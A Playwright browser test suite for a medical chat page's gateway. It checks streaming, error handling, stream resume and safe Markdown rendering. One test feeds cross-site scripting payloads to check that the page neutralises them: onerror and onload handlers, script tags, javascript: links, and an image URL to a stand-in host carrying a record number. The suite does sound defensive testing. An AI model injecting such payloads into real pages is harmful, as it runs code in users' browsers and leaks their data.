"""The chat page (gateway/static) in a real browser against the real stack.

Debian's ``chromium`` (``/usr/bin/chromium``, installed by ``make browser-deps``) is driven by
Playwright's Python package; Playwright's own browser download is never used. Without
chromium the tests are skipped, except in CI (``CI`` set), where they must run.

Most tests use the real stack (tiny Gemma 3 worker, the 20 tokens/s ``slow-model``). The
states the real stack cannot be made to produce on demand (429, 503, an error event in the
middle of an answer, a queue position, a connection that drops) are produced by answering the
page's requests from the test with ``page.route``; the resume after a drop is also tested
against a real job.

Answers are Markdown, rendered by the page with the vendored marked + DOMPurify
(gateway/static/vendor): every test checks that an answer holds only the elements Markdown
writes, no event handler, no ``javascript:`` link, and that the page requested nothing from
anywhere but the gateway. The README's screenshot is taken by ``tools/screenshot.py`` with the
demo model, not here (this test model writes gibberish); the tests save theirs in artifacts/.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from devstack.processes import Proc
from tests.stack import CHROMIUM, CHROMIUM_ARGS, USER_KEY, Stack, ask

ROOT = Path(__file__).resolve().parent.parent
SCREENSHOT = ROOT / "artifacts" / "chat-page.png"
SLOW = "slow-model"

if not os.environ.get("CI"):
    if not CHROMIUM.exists():
        pytest.skip(
            "Debian's chromium is not installed at /usr/bin/chromium (run `make browser-deps`)",
            allow_module_level=True,
        )
    pytest.importorskip("playwright", reason="playwright is not installed (make browser-deps)")

from playwright.sync_api import (  # noqa: E402
    Browser,
    FilePayload,
    Locator,
    Page,
    Request,
    Route,
    expect,
    sync_playwright,
)

pytestmark = [pytest.mark.browser, pytest.mark.integration]

MOCK_JOB = "job-mocked-0001"
DISCLAIMER = "not a substitute for professional medical advice"
# What a rendered answer may hold: the elements of Markdown (MD_TAGS in app.js), and the
# placeholder the page shows before the first token.
ANSWER_TAGS = (
    "A B BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR I LI OL P PRE S STRONG SUB SUP "
    "TABLE TBODY TD TH THEAD TR UL"
).split()
# Everything inside the transcript that should not be there, as a list of strings.
TRANSCRIPT_PROBLEMS = """(allowed) => {
  const bad = [];
  for (const e of document.querySelectorAll('#transcript .msg.user .text *')) {
    bad.push('element in a question: ' + e.tagName);
  }
  for (const e of document.querySelectorAll('#transcript .answer .markdown *')) {
    if (!allowed.includes(e.tagName)) bad.push('element in an answer: ' + e.tagName);
  }
  for (const e of document.querySelectorAll('#transcript *')) {
    for (const a of e.attributes) {
      if (a.name.startsWith('on')) bad.push('handler: ' + e.tagName + ' ' + a.name);
      if (a.name === 'style') bad.push('style attribute on ' + e.tagName);
    }
  }
  for (const a of document.querySelectorAll('#transcript .answer a[href]')) {
    if (!/^(https?|mailto):/i.test(a.getAttribute('href'))) bad.push('href: ' + a.href);
    if (a.target !== '_blank' || a.rel !== 'noopener noreferrer') {
      bad.push('link without target/rel: ' + a.outerHTML);
    }
  }
  return bad;
}"""


# ---------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def slow_worker(stack: Stack) -> Iterator[Proc]:
    proc = stack.add_worker(SLOW)
    yield proc
    proc.stop()


@dataclass
class Watch:
    """What the page did that it never should: alerts, script errors, CSP violations,
    requests to anywhere but the gateway."""

    base_url: str
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def check(self, page: Page) -> None:
        assert not [d for d in self.dialogs if not d.startswith("confirm:")], self.dialogs
        assert not self.errors, self.errors
        assert not self.foreign, self.foreign
        assert page.evaluate(TRANSCRIPT_PROBLEMS, ANSWER_TAGS) == []
        assert page.evaluate("() => window.__pwned") is None


@pytest.fixture
def watch(stack: Stack) -> Watch:
    return Watch(stack.base_url)


@pytest.fixture
def page(browser: Browser, stack: Stack, watch: Watch) -> Iterator[Page]:
    ctx = browser.new_context(viewport={"width": 1280, "height": 800}, base_url=stack.base_url)
    ctx.set_default_timeout(15_000)
    pg = ctx.new_page()

    def on_dialog(dialog: Any) -> None:
        watch.dialogs.append(f"{dialog.type}:{dialog.message}")
        if dialog.type == "confirm":
            dialog.accept()
        else:
            dialog.dismiss()

    def on_console(msg: Any) -> None:
        if msg.type == "error" and "Content Security Policy" in msg.text:
            watch.errors.append(msg.text)

    def on_request(req: Request) -> None:
        if not req.url.startswith((stack.base_url, "data:", "blob:")):
            watch.foreign.append(req.url)

    pg.on("dialog", on_dialog)
    pg.on("pageerror", lambda exc: watch.errors.append(str(exc)))
    pg.on("console", on_console)
    pg.on("request", on_request)
    yield pg
    watch.check(pg)
    ctx.close()


# ---------------------------------------------------------------------------- helpers


def sign_in(page: Page, key: str = USER_KEY) -> None:
    page.goto("/")
    expect(page.locator("#api-key")).to_be_focused()
    page.keyboard.type(key)
    page.keyboard.press("Enter")
    expect(page.locator("#app")).to_be_visible()
    expect(page.locator("#model")).to_have_value("tiny-gemma")


def send(page: Page, text: str) -> None:
    page.locator("#question").fill(text)
    page.locator("#question").press("Enter")


def last_answer(page: Page) -> Locator:
    return page.locator("#transcript .msg.assistant").last


def answer_text(page: Page) -> str:
    return str(last_answer(page).locator(".answer").evaluate("e => e.textContent"))


def answer_html(page: Page, nth: int = -1) -> str:
    answer = page.locator("#transcript .msg.assistant .answer").nth(nth)
    return str(answer.evaluate("e => e.innerHTML"))


def mock_answer(page: Page, parts: list[str]) -> None:
    """Answer the next questions with ``parts`` as token events, then done."""
    events = [("token", i + 1, {"text": t}) for i, t in enumerate(parts)]
    body = sse(*events, ("done", len(parts) + 1, done_data(len(parts))))
    page.unroute("**/medgemma")
    page.route(
        "**/medgemma", lambda route: route.fulfill(status=200, headers=sse_headers(), body=body)
    )


def chunks(text: str, size: int) -> list[str]:
    """``text`` cut every ``size`` characters, wherever that falls (mid-markup), as tokens are."""
    return [text[i : i + size] for i in range(0, len(text), size)]


def wait_until(page: Page, cond: Callable[[], bool], timeout_ms: int = 10_000) -> None:
    for _ in range(timeout_ms // 50):
        if cond():
            return
        page.wait_for_timeout(50)  # lets Playwright dispatch route handlers meanwhile
    raise AssertionError("condition not met in time")


def record_growth(page: Page) -> None:
    """Record the length of the answer text after every DOM change (to see it stream)."""
    page.evaluate(
        """() => {
        window.__growth = [];
        new MutationObserver(() => {
          const a = [...document.querySelectorAll('#transcript .answer')].pop();
          if (a) window.__growth.push(a.textContent.length);
        }).observe(document.getElementById('transcript'),
                   {subtree: true, childList: true, characterData: true});
      }"""
    )


def growth_steps(page: Page) -> int:
    lengths: list[int] = page.evaluate("() => window.__growth")
    return len({n for n in lengths if n > 0})


def sse(*events: tuple[str, int | None, dict[str, Any]]) -> str:
    out = []
    for name, seq, data in events:
        sid = f"id: {seq}\r\n" if seq is not None else ""
        out.append(f"event: {name}\r\n{sid}data: {json.dumps(data)}\r\n\r\n")
    return "".join(out)


def sse_headers(job: str = MOCK_JOB) -> dict[str, str]:
    return {
        "Content-Type": "text/event-stream",
        "Cache-Control": "no-cache",
        "X-Job-Id": job,
        "X-Conversation-Id": "c-mocked",
    }


def done_data(tokens: int = 2, reason: str = "stop") -> dict[str, Any]:
    return {
        "conversation_id": "c-mocked",
        "model": "tiny-gemma",
        "finish_reason": reason,
        "usage": {"prompt_tokens": 5, "completion_tokens": tokens, "total_tokens": 5 + tokens},
        "disclaimer": "This answer is generated by an AI model; " + DISCLAIMER + ".",
    }


def error_json(
    status: int, message: str, code: str, headers: dict[str, str] | None = None
) -> dict[str, Any]:
    return {
        "status": status,
        "headers": {"Content-Type": "application/json", **(headers or {})},
        "body": json.dumps(
            {"error": {"message": message, "type": "x", "param": None, "code": code}}
        ),
    }


# ---------------------------------------------------------------------------- the page


def test_page_is_served_with_a_strict_policy(stack: Stack) -> None:
    with stack.client(key=None) as c:
        r = c.get("/")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
        csp = r.headers["content-security-policy"]
        for part in (
            "default-src 'self'",
            "img-src 'self' data: blob:",
            "style-src 'self'",
            "script-src 'self'",
            "connect-src 'self'",
        ):
            assert part in csp
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "no-referrer"
        js = c.get("/static/app.js")
        assert js.status_code == 200 and "javascript" in js.headers["content-type"]
        assert "innerHTML" not in js.text.split("*/", 1)[1]  # only the header comment names it
        assert c.get("/static/app.css").headers["content-type"].startswith("text/css")
        assert c.get("/static/index.html").status_code == 404  # an allowlist, nothing else
        assert c.get("/static/..%2fapp.py").status_code == 404
        # The two vendored libraries, served by the gateway itself (the page works offline).
        html = r.text
        for name, header in (("marked.umd.js", "marked v18."), ("purify.min.js", "DOMPurify 3.")):
            assert f'<script src="/static/vendor/{name}" defer></script>' in html
            v = c.get(f"/static/vendor/{name}")
            assert v.status_code == 200 and "javascript" in v.headers["content-type"], name
            assert v.headers["content-security-policy"] == csp
            assert header in v.text[:400]  # the license header is kept
        assert html.index("/static/vendor/") < html.index("/static/app.js")  # run before it
        assert c.get("/static/vendor/README.md").status_code == 404
        assert c.get("/static/vendor/marked.umd.js.map").status_code == 404
        assert c.get("/static/vendor/..%2f..%2froutes%2fpage.py").status_code == 404
        assert "<script>" not in html  # no inline script: every script has a src


def test_question_streams_to_a_finished_answer(page: Page, stack: Stack) -> None:
    sign_in(page)
    expect(page.locator("#disclaimer")).to_contain_text(DISCLAIMER)
    send(page, "What are the early warning signs of sepsis in an adult on the ward?")
    answer = last_answer(page)
    # The tiny model answers in a blink; token-by-token rendering is measured on the 20
    # tokens/s slow-model in the Stop tests below.
    expect(answer).to_have_attribute("data-state", "done", timeout=30_000)
    assert answer_text(page).strip()
    expect(answer.locator(".meta")).to_contain_text(re.compile(r"Answer complete.*\d+ token"))
    expect(page.locator("#status")).to_have_text("Answer complete.")
    expect(page.locator("#disclaimer")).to_be_visible()
    expect(page.locator("#disclaimer")).to_contain_text(DISCLAIMER)
    expect(page.locator("#question")).to_be_focused()
    # The new conversation is listed and marked as the current one.
    expect(page.locator("#conv-list .conv-open[aria-current=true]")).to_have_count(1)

    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOT))  # docs/screenshot-chat.png: tools/screenshot.py


def test_stop_button_stops_the_answer(page: Page, slow_worker: Proc) -> None:
    sign_in(page)
    page.locator("#model").select_option(SLOW)
    record_growth(page)
    send(page, "Explain the whole pathophysiology of heart failure, please.")
    answer = last_answer(page)
    expect(answer.locator(".answer")).to_contain_text("tok5 ")
    expect(page.locator("#stop")).to_be_enabled()
    with page.expect_request(lambda r: r.url.endswith("/cancel") and r.method == "POST"):
        page.locator("#stop").click()
    expect(answer).to_have_attribute("data-state", "stopped", timeout=5_000)
    expect(answer.locator(".meta")).to_contain_text("Stopped")
    n = len(re.findall(r"tok\d+", answer_text(page)))
    assert 5 < n < 60, n  # 200 tokens would take 10 s
    assert growth_steps(page) >= 5  # it streamed
    before = answer_text(page)
    page.wait_for_timeout(700)
    assert answer_text(page) == before
    expect(page.locator("#send")).to_be_enabled()
    expect(page.locator("#stop")).to_be_disabled()


def test_keyboard_only_enter_shift_enter_and_escape(page: Page, slow_worker: Proc) -> None:
    sign_in(page)  # typed into the focused key box, Enter submits
    page.locator("#model").focus()
    page.keyboard.press("ArrowDown")  # Tiny Gemma -> the next enabled option
    expect(page.locator("#model")).to_have_value(SLOW)
    page.locator("#question").focus()
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    expect(page.locator("#question")).to_have_value("first line\nsecond line")
    page.keyboard.press("Enter")
    expect(page.locator("#question")).to_have_value("")
    user = page.locator("#transcript .msg.user").last
    assert user.locator(".text").evaluate("e => e.textContent") == "first line\nsecond line"
    expect(last_answer(page)).to_have_attribute("data-state", "streaming")
    expect(last_answer(page).locator(".answer")).to_contain_text("tok3 ")
    expect(page.locator("#status")).to_have_text("Answering…")
    page.keyboard.press("Escape")
    expect(last_answer(page)).to_have_attribute("data-state", "stopped", timeout=5_000)
    expect(page.locator("#question")).to_be_focused()


def test_model_dropdown_marks_unavailable_models(page: Page, slow_worker: Proc) -> None:
    # Pretend slow-model cannot read images, to see the attach control follow the model.
    def models(route: Route) -> None:
        resp = route.fetch()
        data = resp.json()
        for m in data:
            if m["model_name"] == SLOW:
                m["capabilities"]["image"] = False
                m["disclaimer"] = "Load-test model: not medical advice."
        route.fulfill(response=resp, json=data)

    page.route("**/models", models)
    sign_in(page)
    options = page.locator("#model option").evaluate_all(
        "os => os.map(o => [o.value, o.textContent, o.disabled])"
    )
    by_name = {value: (text, disabled) for value, text, disabled in options}
    assert by_name["tiny-gemma"] == ("Tiny Gemma", False)
    assert by_name[SLOW] == ("Slow Model", False)
    assert by_name["ghost-model"] == ("Ghost Model (unavailable)", True)
    assert by_name["smollm2-demo"][1] is True
    assert by_name["smollm2-demo"][0].endswith("(unavailable)")
    assert "secret-model" not in by_name  # admin-only, not shown to alice
    expect(page.locator("#image-field")).to_be_visible()

    page.locator("#model").select_option(SLOW)
    expect(page.locator("#disclaimer")).to_have_text("Load-test model: not medical advice.")
    expect(page.locator("#image-field")).to_be_hidden()
    page.locator("#model").select_option("tiny-gemma")
    expect(page.locator("#image-field")).to_be_visible()
    expect(page.locator("#disclaimer")).to_contain_text(DISCLAIMER)


def test_image_attach_preview_and_answer(page: Page, tmp_path: Path) -> None:
    from PIL import Image

    png = tmp_path / "chest.png"
    Image.new("RGB", (48, 40), (120, 130, 140)).save(png)
    sign_in(page)

    # Too large: refused in the page, before any upload.
    big: FilePayload = {"name": "huge.png", "mimeType": "image/png", "buffer": bytes((5 << 20) + 1)}
    page.locator("#image").set_input_files(big)
    expect(page.locator("#alert")).to_contain_text("the limit is 5 MB")
    expect(page.locator("#image-preview")).to_be_hidden()

    page.locator("#image").set_input_files(str(png))
    expect(page.locator("#image-preview")).to_be_visible()
    src = page.locator("#preview-img").get_attribute("src") or ""
    assert src.startswith("data:image/png;base64,")
    expect(page.locator("#alert")).to_be_hidden()

    with page.expect_request(lambda r: r.url.endswith("/medgemma")) as sent:
        send(page, "Describe this image.")
    body = sent.value.post_data_json
    assert body is not None
    assert body["user_message"][0] == {"type": "image", "data_url": src}
    assert body["user_message"][1] == {"type": "text", "text": "Describe this image."}
    expect(last_answer(page)).to_have_attribute("data-state", "done", timeout=30_000)
    assert answer_text(page).strip()
    expect(page.locator("#transcript .msg.user .attachment").last).to_contain_text("chest.png")
    expect(page.locator("#image-preview")).to_be_hidden()  # sent: the attachment is cleared


def test_wrong_key_is_refused(page: Page) -> None:
    page.goto("/")
    page.locator("#api-key").fill("not-a-real-key")
    page.locator("#api-key").press("Enter")
    expect(page.locator("#key-error")).to_contain_text("Your API key was not accepted")
    expect(page.locator("#app")).to_be_hidden()
    assert page.evaluate("() => sessionStorage.length") == 0

    # A key revoked while the page is open: back to the key form, the transcript wiped.
    sign_in(page)
    send(page, "hello")
    expect(last_answer(page)).to_have_attribute("data-state", "done", timeout=30_000)
    page.route(
        "**/medgemma",
        lambda route: route.fulfill(**error_json(401, "Missing or invalid API key.", "x")),
    )
    send(page, "hello again")
    expect(page.locator("#key-error")).to_contain_text("Your API key was not accepted")
    expect(page.locator("#app")).to_be_hidden()
    assert page.locator("#transcript .msg").count() == 0
    assert page.evaluate("() => sessionStorage.length") == 0


def test_conversations_list_open_and_delete(page: Page, stack: Stack) -> None:
    cid = "browser-conv-1"
    with stack.client() as c:
        r = c.post("/medgemma", json=ask("Dose of paracetamol?", conversation_id=cid, stream=False))
        assert r.status_code == 200, r.text
    sign_in(page)
    item = page.locator(f"#conv-list li[data-conversation-id='{cid}']")
    expect(item).to_be_visible()
    item.locator(".conv-open").click()
    expect(page.locator("#transcript .msg.user .text").first).to_have_text("Dose of paracetamol?")
    expect(page.locator("#transcript .msg.assistant")).to_have_count(1)
    expect(item.locator(".conv-open")).to_have_attribute("aria-current", "true")
    # Continue it: the next turn goes to the same conversation.
    with page.expect_request(lambda r: r.url.endswith("/medgemma")) as sent:
        send(page, "And for a child?")
    assert (sent.value.post_data_json or {}).get("conversation_id") == cid
    expect(last_answer(page)).to_have_attribute("data-state", "done", timeout=30_000)

    item.locator(".conv-delete").click()  # confirm() is accepted by the fixture
    expect(item).to_have_count(0)
    expect(page.locator("#transcript .msg")).to_have_count(0)
    with stack.client() as c:
        assert c.get(f"/conversations/{cid}").status_code == 404


MARKDOWN_ANSWER = """**Anaemia** often shows as:

- **Fatigue**: tiredness that rest does not fix.
- **Pallor**: pale skin and conjunctivae.
- **Dyspnoea**: breathlessness on exertion.

| Test | Adult range |
|:-----|------------:|
| Hb (men) | 130–170 g/L |
| Hb (women) | 120–150 g/L |

Start with `FBC` and ferritin:

```text
FBC, ferritin, B12, folate
```

See [NICE CKS](https://cks.nice.org.uk/topics/anaemia-iron-deficiency/)."""


def test_markdown_answer_is_rendered(page: Page) -> None:
    """A list, bold, a table, inline code, a code block and a link, streamed in 7-character
    tokens, end as the HTML elements Markdown means (and as nothing else: Watch.check)."""
    sign_in(page)
    mock_answer(page, chunks(MARKDOWN_ANSWER, 7))
    send(page, "How does anaemia show?")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-state", "done")
    md = answer.locator(".answer .markdown")
    expect(md.locator("p").first.locator("strong")).to_have_text("Anaemia")
    expect(md.locator("ul > li")).to_have_count(3)
    expect(md.locator("ul > li > strong")).to_have_text(["Fatigue", "Pallor", "Dyspnoea"])
    expect(md.locator("table thead th")).to_have_text(["Test", "Adult range"])
    expect(md.locator("table tbody tr")).to_have_count(2)
    expect(md.locator("table tbody tr").first.locator("td")).to_have_text(
        ["Hb (men)", "130–170 g/L"]
    )
    expect(md.locator("p > code")).to_have_text("FBC")
    assert md.locator("pre > code").text_content() == "FBC, ferritin, B12, folate\n"
    link = md.locator("a")
    expect(link).to_have_text("NICE CKS")
    expect(link).to_have_attribute(
        "href", "https://cks.nice.org.uk/topics/anaemia-iron-deficiency/"
    )
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    assert "**" not in answer_text(page) and "|" not in answer_text(page)
    # Styled by app.css: table cells have borders, a code block is a monospace box.
    td_border, pre_font, ws = md.evaluate(
        """m => [getComputedStyle(m.querySelector('td')).borderTopStyle,
                 getComputedStyle(m.querySelector('pre code')).fontFamily,
                 getComputedStyle(m).whiteSpace]"""
    )
    assert td_border == "solid" and "mono" in pre_font.lower() and ws == "normal"
    # The question stays plain text, Markdown and all.
    user = page.locator("#transcript .msg.user .text").last
    assert user.text_content() == "How does anaemia show?"
    send(page, "Is **this** bold?")
    expect(last_answer(page)).to_have_attribute("data-state", "done")
    assert page.locator("#transcript .msg.user .text").last.text_content() == "Is **this** bold?"


def test_markup_scripts_and_remote_images_in_answers_are_neutralised(
    page: Page, watch: Watch
) -> None:
    payload = '<img src=x onerror="window.__pwned = 1">'
    # Real stack: the question itself is markup, and stays text.
    sign_in(page)
    send(page, payload)
    expect(last_answer(page)).to_have_attribute("data-state", "done", timeout=30_000)
    assert page.locator("#transcript .msg.user .text").last.text_content() == payload

    # Model output with markup, split across tokens the way a tokenizer would.
    leak = "http://198.51.100.7/leak.png?mrn=1234567"  # TEST-NET-2: must never be requested
    mock_answer(
        page,
        [
            "Result: <im",
            'g src=x onerror="window.__pwned = 1">',
            " <script>window.__pwned = 2</script>",
            " [first](javascript:window.__pwned=3) and",
            ' <a href="JaVaScRiPt:window.__pwned=4" onclick="window.__pwned=5">second</a>',
            f"\n\n![scan of the chest]({leak})",
            f' <img src="{leak}"> <svg onload="window.__pwned=6"></svg>',
            f' <iframe src="{leak}"></iframe>',
            ' <p style="color:red" class="error-message" id="alert">styled</p>',
            ' <form action="/x"><input name="q"><button>go</button></form> end',
        ],
    )
    send(page, "anything")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-state", "done")
    md = answer.locator(".answer .markdown")
    expect(md).to_contain_text("Result:")
    expect(md).to_contain_text("scan of the chest")  # an image is shown as its alt text
    expect(md).to_contain_text("styled")
    expect(md).to_contain_text("end")
    assert "__pwned" not in answer_text(page)  # <script> is dropped with its content
    assert (
        page.locator(
            "#transcript :is(img, script, svg, iframe, form, input, button, style)"
        ).count()
        == 0
    )
    links = md.locator("a")
    expect(links).to_have_text(["first", "second"])
    for i in range(2):  # inert: no href to follow
        assert links.nth(i).get_attribute("href") is None
        links.nth(i).click()
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.__pwned") is None
    assert page.locator("[id=alert]").count() == 1  # the model cannot clobber the page's ids
    assert md.locator("[class], [id], [style]").count() == 0
    # DOMPurify parses the answer in an inert document (nothing there runs or loads), and
    # Chromium reports each handler and style attribute it meets there as a CSP violation.
    # Those reports are expected; any other stays in watch.errors and fails the test.
    inert = ("Executing inline event handler violates", "Applying inline style violates")
    reports = [e for e in watch.errors if e.startswith(inert)]
    assert reports
    watch.errors[:] = [e for e in watch.errors if not e.startswith(inert)]
    # Watch.check: no handler attribute, no javascript: link, no request to 198.51.100.7.


def test_markdown_split_mid_markup_streams_to_the_right_result(page: Page) -> None:
    """Tokens cut mid-markup (``**bo`` + ``ld**``) render as text meanwhile and as Markdown at
    the end; the growing answer is re-rendered at most once per frame, not per token."""
    held: list[Route] = []

    def first(route: Route) -> None:  # half the answer, then the connection drops
        body = sse(("token", 1, {"text": "Take it **bo"}))
        route.fulfill(status=200, headers=sse_headers(), body=body)

    page.route("**/medgemma", first)
    page.route("**/jobs/*/events", lambda route: held.append(route))  # answered below
    sign_in(page)
    send(page, "hello")
    answer = last_answer(page)
    wait_until(page, lambda: bool(held))
    expect(answer.locator(".answer")).to_have_text("Take it **bo")  # unfinished: as typed
    assert answer.locator(".answer strong").count() == 0
    held[0].fulfill(
        status=200,
        headers=sse_headers(),
        body=sse(
            ("token", 2, {"text": "ld** with food"}),
            ("token", 3, {"text": ":\n\n- mor"}),
            ("token", 4, {"text": "ning\n- eve"}),
            ("token", 5, {"text": "ning"}),
            ("done", 6, done_data(5)),
        ),
    )
    expect(answer).to_have_attribute("data-state", "done")
    md = answer.locator(".answer .markdown")
    expect(md.locator("strong")).to_have_text("bold")
    expect(md.locator("li")).to_have_text(["morning", "evening"])
    assert " ".join(answer_text(page).split()) == "Take it bold with food: morning evening"

    # 400 tokens in one response: far fewer renders than tokens.
    page.unroute("**/jobs/*/events")
    words = [f"w{i} " for i in range(400)]
    mock_answer(page, words)
    page.evaluate(
        """() => {
        window.__renders = 0;
        new MutationObserver((records) => {
          for (const r of records) {
            if (r.target.classList && r.target.classList.contains('markdown')) window.__renders++;
          }
        }).observe(document.getElementById('transcript'), {subtree: true, childList: true});
      }"""
    )
    send(page, "count")
    expect(last_answer(page)).to_have_attribute("data-state", "done")
    assert answer_text(page).strip() == "".join(words).strip()
    renders = page.evaluate("() => window.__renders")
    assert 1 <= renders <= 20, renders


def test_refusals_and_mid_stream_error_are_explained(page: Page) -> None:
    replies: list[dict[str, Any]] = []
    page.route("**/medgemma", lambda route: route.fulfill(**replies.pop(0)))
    page.clock.install()  # real time flows; fast_forward() skips the Retry-After wait
    sign_in(page)

    replies.append(error_json(429, "Rate limit.", "rate_limited", {"Retry-After": "7"}))
    send(page, "first question")
    expect(page.locator("#alert")).to_contain_text("Too many requests. Please wait 7 seconds")
    # Nothing was asked: the question is back in the box, the transcript unchanged.
    expect(page.locator("#question")).to_have_value("first question")
    expect(page.locator("#transcript .msg")).to_have_count(0)

    # The page holds back for the Retry-After: sending at once is refused in the page.
    page.locator("#question").press("Enter")
    expect(page.locator("#alert")).to_contain_text(re.compile(r"Please wait [67] seconds"))
    page.clock.fast_forward(8_000)

    replies.append(error_json(503, "No worker serves model 'tiny-gemma' now.", "model_unavailable"))
    send(page, "second question")
    expect(page.locator("#alert")).to_contain_text(
        "The service cannot answer right now: No worker serves model 'tiny-gemma' now."
    )

    replies.append(
        {
            "status": 200,
            "headers": sse_headers(),
            "body": sse(
                ("token", 1, {"text": "Partial "}),
                ("token", 2, {"text": "answer"}),
                (
                    "error",
                    3,
                    {
                        "error": {
                            "message": "The worker stopped unexpectedly; please ask again.",
                            "type": "server_error",
                            "param": None,
                            "code": "worker_lost",
                        }
                    },
                ),
            ),
        }
    )
    send(page, "third question")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-state", "error")
    expect(page.locator("#alert")).to_have_text(
        "The worker stopped unexpectedly; please ask again."
    )
    assert answer_text(page) == "Partial answer"  # what came is kept
    expect(answer.locator(".meta")).to_contain_text("interrupted")


def test_queue_position_is_shown_until_the_answer_starts(page: Page) -> None:
    held: list[Route] = []
    page.route(
        "**/medgemma",
        lambda route: route.fulfill(
            status=200,
            headers=sse_headers(),
            body=sse(("queued", None, {"position": 3, "eta_s": 12})),
        ),
    )
    page.route("**/jobs/*/events", lambda route: held.append(route))  # answered below
    sign_in(page)
    send(page, "hello")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-state", "queued")
    expect(answer).to_contain_text("Waiting in queue (position 3), about 12 seconds to go")
    wait_until(page, lambda: bool(held))
    assert held[0].request.headers["last-event-id"] == "0"
    expect(answer).to_contain_text("Waiting in queue (position 3)")
    held[0].fulfill(
        status=200,
        headers=sse_headers(),
        body=sse(
            ("queued", None, {"position": 1, "eta_s": 2}),
            ("token", 1, {"text": "Hello "}),
            ("token", 2, {"text": "world"}),
            ("done", 3, done_data()),
        ),
    )
    expect(answer).to_have_attribute("data-state", "done")
    assert answer_text(page) == "Hello world"


def test_dropped_stream_resumes_a_real_job_without_duplicates(page: Page) -> None:
    full: dict[str, Any] = {}

    def truncate(route: Route) -> None:
        # The whole real answer, greedy: the tiny model samples by default and can end after
        # a token or two, and an answer that ends inside the first three events has nothing
        # to resume (flaky in CI before this).
        body = {**(route.request.post_data_json or {}), "temperature": 0}
        resp = route.fetch(post_data=json.dumps(body))
        blocks = [b for b in resp.text().replace("\r\n", "\n").split("\n\n") if b.strip()]
        full["blocks"] = blocks
        route.fulfill(response=resp, body="\n\n".join(blocks[:3]) + "\n\n")  # then it "drops"

    page.route("**/medgemma", truncate)
    sign_in(page)
    with page.expect_request(lambda r: "/events" in r.url) as resumed:
        send(page, "Tell me about asthma inhalers.")
    expect(last_answer(page)).to_have_attribute("data-state", "done", timeout=30_000)
    fields = [dict(line.split(": ", 1) for line in b.split("\n")) for b in full["blocks"]]
    ids = [int(f["id"]) for f in fields if "id" in f]
    assert ids == sorted(set(ids))  # (a frame joining waiting events carries the last id)
    # The page resumes after the last event it received in the three frames it got.
    assert resumed.value.headers["last-event-id"] == [f["id"] for f in fields[:3] if "id" in f][-1]
    tokens = [json.loads(f["data"])["text"] for f in fields if f.get("event") == "token"]
    assert len(fields) > 3  # something was left to resume
    # No token lost or repeated: the resumed answer renders exactly as the whole text does
    # when it comes in one piece (the answer is Markdown, its HTML is compared).
    resumed_html = answer_html(page)
    assert resumed_html.strip()
    mock_answer(page, ["".join(tokens)])
    send(page, "Tell me about asthma inhalers, in one piece.")
    expect(last_answer(page)).to_have_attribute("data-state", "done")
    assert answer_html(page) == resumed_html


def test_resume_skips_repeated_events_and_gives_up_after_three_tries(page: Page) -> None:
    resumes: list[str] = []

    def first(route: Route) -> None:
        body = sse(("token", 1, {"text": "Hello "}), ("token", 2, {"text": "wor"}))
        route.fulfill(status=200, headers=sse_headers(), body=body)

    def resume(route: Route) -> None:
        resumes.append(route.request.headers["last-event-id"])
        if len(resumes) == 1:  # replays from the start (overlap), goes on, drops again
            body = sse(
                ("token", 1, {"text": "Hello "}),
                ("token", 2, {"text": "wor"}),
                ("token", 3, {"text": "ld"}),
            )
            route.fulfill(status=200, headers=sse_headers(), body=body)
        else:
            route.fulfill(**error_json(503, "Redis is unreachable.", "redis_unavailable"))

    page.route("**/medgemma", first)
    page.route("**/jobs/*/events", resume)
    sign_in(page)
    send(page, "hello")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-state", "error", timeout=10_000)
    assert resumes == ["2", "3", "3", "3"]  # progress resets the count: 1 + 3 tries
    assert answer_text(page) == "Hello world"
    expect(page.locator("#alert")).to_contain_text("could not be restored")


def test_gateway_shutdown_mid_answer_resumes_instead_of_failing(page: Page) -> None:
    """A gateway that shuts down ends the stream with gateway_shutdown (no event id): the page
    resumes the job on the next gateway instead of showing a failed answer."""
    resumes: list[str] = []

    def first(route: Route) -> None:
        farewell = {
            "error": {
                "message": "The server is restarting; resume the stream.",
                "type": "server_error",
                "param": None,
                "code": "gateway_shutdown",
            }
        }
        body = sse(
            ("token", 1, {"text": "Hello "}),
            ("token", 2, {"text": "wor"}),
            ("error", None, farewell),
        )
        route.fulfill(status=200, headers=sse_headers(), body=body)

    def resume(route: Route) -> None:
        resumes.append(route.request.headers["last-event-id"])
        body = sse(("token", 3, {"text": "ld"}), ("done", 4, done_data(3)))
        route.fulfill(status=200, headers=sse_headers(), body=body)

    page.route("**/medgemma", first)
    page.route("**/jobs/*/events", resume)
    sign_in(page)
    send(page, "hello")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-state", "done", timeout=10_000)
    assert resumes == ["2"]
    assert answer_text(page) == "Hello world"
